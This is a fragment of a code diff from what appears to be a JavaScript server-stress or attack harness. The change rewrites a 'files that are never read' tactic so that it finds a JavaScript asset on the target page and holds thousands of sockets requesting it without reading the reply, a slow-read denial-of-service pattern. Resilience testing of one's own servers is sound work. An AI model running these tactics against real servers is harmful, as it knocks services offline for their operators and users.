@@ -76,7 +76,11 @@ export const TACTICS = {
     await bringCrowd(attack, 2_000);
     await holdSockets(attack, 9_500, () => ALL_GUESTS, readNothing);
   },
-  'files that are never read': (attack) => holdSockets(attack, 9_500, () => `${headOf('GET /')}\r\n`, readNothing),
+  'files that are never read': async (attack) => {
+    const page = await fetch(attack.url).then((response) => response.text());
+    const [script = '/'] = /\/assets\/[\w-]+\.js/.exec(page) ?? [];
+    await holdSockets(attack, 9_500, () => `${headOf(`GET ${script}`)}\r\n`, readNothing);
+  },
   'many questions at once': (attack) =>
     holdSockets(
       attack,
